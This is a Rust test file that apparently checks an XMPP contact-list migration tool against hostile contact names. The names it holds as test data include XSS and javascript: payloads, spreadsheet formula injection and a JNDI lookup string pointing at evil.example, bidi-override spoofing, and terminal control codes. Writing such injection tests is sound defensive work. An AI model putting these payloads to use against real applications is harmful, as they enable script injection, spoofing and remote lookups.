//! Names that want to be more than names: harmless in the terminal, the log and the reports. The tests of the screens
//! show them in the window.

use crate::practice::{FRIENDS, FROM, Ran, TO, User, run, servers};
use jid::Jid;
use rehome::model::printable::is_hidden;
use rehome::pretend::{Behaviour, Builder, Item, Subscription};

/// What somebody may have called a contact, or itself, to make a program do something. XML carries no other
/// control characters than these.
fn names() -> Vec<String> {
    let mut names: Vec<String> = [
        "\u{202e}moc.live\u{202c}",
        "\u{2066}a\u{2067}b\u{2069}",
        "two\nlines\r\nof\ttext",
        "\u{85}next line\u{2028}and\u{2029}more",
        "\u{9b}31mred by C1",
        "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>",
        "</td></table><h1>done</h1>&lt;b&gt;",
        "javascript:alert(1)",
        "=HYPERLINK(\"http://evil.example\";\"x\")",
        "+1+1",
        "-2+3",
        "@SUM(1)",
        "%s%n{}{0}${jndi:ldap://evil.example}",
        "zero\u{200b}width\u{feff}\u{2060}",
        "tag\u{e0041}\u{e0042}",
        "soft\u{ad}hyphen, \u{3164}Hangul\u{ffa0} fillers\u{115f}\u{1160}",
    ]
    .map(str::to_owned)
    .into();
    names.push("a\u{300}".to_owned() + &"\u{316}".repeat(500));
    names
}

/// A contact for each of them, in a group of the same name.
fn with_odd_names() -> Builder {
    let items: Vec<_> = names()
        .iter()
        .enumerate()
        .map(|(index, name)| {
            let jid = Jid::new(&format!("odd{index}@{FRIENDS}")).unwrap();
            Item::new(jid).named(name).grouped([name.as_str()]).standing(Subscription::Both)
        })
        .collect();
    let world = items
        .iter()
        .fold(servers(), |world, item| world.contact(item.jid.as_str(), Behaviour::never()));
    let nick = format!(
        "<nick xmlns='http://jabber.org/protocol/nick'>\u{202e}&lt;script&gt;{}</nick>",
        "x".repeat(5_000)
    );
    world
        .node(FROM, "http://jabber.org/protocol/nick", [("current", nick.parse().unwrap())])
        .roster(FROM, items)
}

#[tokio::test(flavor = "multi_thread")]
async fn odd_names_are_harmless_wherever_they_appear() {
    let world = with_odd_names().start().await.unwrap();
    let user = User::of(&world);
    let count = names().len();
    let mut shown = Vec::new();
    for (number, arguments) in [
        &["plan", "-vv"][..],
        &["move", "--yes", "-vv", "--wait", "0"],
        &["status", "-vv", "--wait", "0", "--progress", "json"],
        &["undo", "--yes", "-vv", "--wait", "0"],
    ]
    .iter()
    .enumerate()
    {
        let mut rehome = user.rehome(arguments[0]);
        rehome.args(&arguments[1..]);
        let ending = ["html", "txt", "html", "txt"][number];
        let report = user.data().join(format!("report{number}.{ending}"));
        rehome.arg("--report").arg(&report);
        let ran = run(rehome).await;
        assert_eq!(ran.exit, Some(0), "{ran:?}");
        let written = std::fs::read_to_string(report).unwrap();
        if ending == "html" {
            assert_loads_and_runs_nothing(&written);
        }
        shown.extend([("terminal", ran.out), ("log", ran.err), (ending, written)]);
    }
    assert_eq!(world.record(FROM).unwrap().roster.len(), count, "the old list is as it was");
    for (where_, text) in &shown {
        assert_plain(where_, text);
    }
}

/// What moves is the name itself, however odd.
#[tokio::test(flavor = "multi_thread")]
async fn odd_names_arrive_as_they_are() {
    let world = with_odd_names().start().await.unwrap();
    let report = run(User::of(&world).moving()).await.json(0);
    assert_eq!(report["counts"]["moved"], names().len(), "{report}");
    let [old, new] = [FROM, TO].map(|address| world.record(address).unwrap());
    for item in &old.roster {
        let there = new.item(item.jid.as_str()).expect("it has moved");
        assert_eq!((&there.name, &there.groups), (&item.name, &item.groups));
    }
}

/// A name of a megabyte is more than a stanza's attribute can hold here: one sentence, and nothing of it is shown.
#[tokio::test(flavor = "multi_thread")]
async fn a_name_of_a_megabyte_ends_in_a_sentence() {
    let name = "x".repeat(1 << 20);
    let odd = format!("<item jid='long@{FRIENDS}' name='{name}'/>");
    let world =
        servers().fault(FROM, rehome::pretend::Fault::odd_roster(&odd)).start().await.unwrap();
    let Ran { exit, out, err } = run(User::of(&world).moving()).await;
    assert_eq!(exit, Some(3), "{err}");
    assert!(err.contains("sends something that Rehome can’t read") && err.len() < 2_000, "{err}");
    assert_eq!(out, "");
}

/// Lines of text, and nothing that makes a terminal, an editor or a reader do something else.
fn assert_plain(where_: &str, text: &str) {
    for line in text.lines() {
        assert_eq!(line.chars().find(|c| is_hidden(*c)), None, "{where_}: {line:?}");
        // A spreadsheet that opens a report takes what begins like this for a formula.
        assert!(!line.starts_with(['=', '+', '@']), "{where_}: {line:?}");
    }
}

fn assert_loads_and_runs_nothing(html: &str) {
    let lower = html.to_lowercase();
    assert!(lower.contains("default-src 'none'"), "whatever slips through does nothing");
    for tag in [
        "<script", "<img", "<link", "<iframe", "<object", "<embed", "<form", "<a ", "<svg", "<base",
    ] {
        assert!(!lower.contains(tag), "{tag} in {html}");
    }
    // No attribute but those of the page itself.
    let known = ["lang=", "dir=\"ltr\"", "charset=", "http-equiv=", "content="];
    for tag in lower.split('<').skip(1).filter_map(|rest| rest.split('>').next()) {
        for attribute in tag.split_whitespace().skip(1).filter(|word| word.contains('=')) {
            assert!(
                known.iter().any(|known| attribute.starts_with(known)),
                "{attribute} in <{tag}>"
            );
        }
    }
}
